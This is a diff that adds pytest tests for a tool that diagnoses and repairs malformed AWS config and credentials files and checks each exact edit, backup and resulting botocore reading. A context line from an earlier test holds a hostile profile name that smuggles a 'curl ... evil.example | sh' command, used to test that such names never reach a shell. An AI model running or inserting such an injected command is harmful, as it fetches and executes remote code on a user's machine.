@@ -261,3 +261,69 @@ def test_a_hostile_profile_name_never_becomes_a_command(home: Path, env: dict[st
     assert "is not a profile name, so it is not put in the command" in shown
     # In prose the name stays readable, inside a code span.
     assert "`dev;curl -s evil.example|sh;#`" in shown
+
+
+KEYS = f"aws_access_key_id = {KEY}\naws_secret_access_key = {SECRET}\n"
+STS = "boto3.Session().client('sts').get_caller_identity()"
+SETUPS = {
+    "quotes around the region": (
+        ("config", '[profile dev]\nregion = "eu-west-1"\n'),
+        f"[dev]\n{KEYS}",
+        "dev",
+        "stray-characters",
+        {
+            "file": "~/.aws/config",
+            "line": 2,
+            "before": 'region = "eu-west-1"',
+            "after": "region = eu-west-1",
+        },
+    ),
+    "profile prefix in the credentials file": (
+        ("credentials", f"[profile dev]\n{KEYS}"),
+        "",
+        "dev",
+        "profile-prefix-confusion",
+        {"file": "~/.aws/credentials", "line": 1, "before": "[profile dev]", "after": "[dev]"},
+    ),
+    "an indented secret": (
+        (
+            "credentials",
+            f"[default]\naws_access_key_id = {KEY}\n  aws_secret_access_key = {SECRET}\n",
+        ),
+        "",
+        None,
+        "config-file-syntax",
+        {
+            "file": "~/.aws/credentials",
+            "line": 3,
+            "before": "  aws_secret_access_key = <secret-key:redacted>",
+            "after": "aws_secret_access_key = <secret-key:redacted>",
+        },
+    ),
+}
+
+
+@pytest.mark.parametrize("name", SETUPS)
+def test_each_locatable_fix_is_the_exact_edit(name: str, home: Path, env: dict[str, str]) -> None:
+    (broken, text), other, profile, cause, edit = SETUPS[name]
+    (home / ".aws" / broken).write_text(text)
+    if other:
+        (home / ".aws" / ("credentials" if broken == "config" else "config")).write_text(other)
+    if profile:
+        env["AWS_PROFILE"] = profile
+    data = diagnose(env, boto3_error(env, STS))
+    assert data["diagnosis"]["cause"] == cause
+    assert edit in edits(data)
+    apply(data, env)
+    fixed = (home / ".aws" / broken).read_text()
+    after = edit["after"].replace("<secret-key:redacted>", SECRET)
+    assert fixed.split("\n")[edit["line"] - 1] == after
+    assert (home / ".aws" / f"{broken}.bak").read_text() == text
+    # botocore now reads the set-up as meant: the region, and the key pair.
+    check = (
+        "import boto3; s = boto3.Session(); c = s.get_credentials();"
+        " print(s.region_name, c.access_key[-4:], len(c.secret_key))"
+    )
+    done = subprocess.run([sys.executable, "-c", check], env=env, capture_output=True, text=True)
+    region = "eu-west-1" if broken == "config" else "None"
+    assert done.stdout.split() == [region, KEY[-4:], "40"], done.stderr
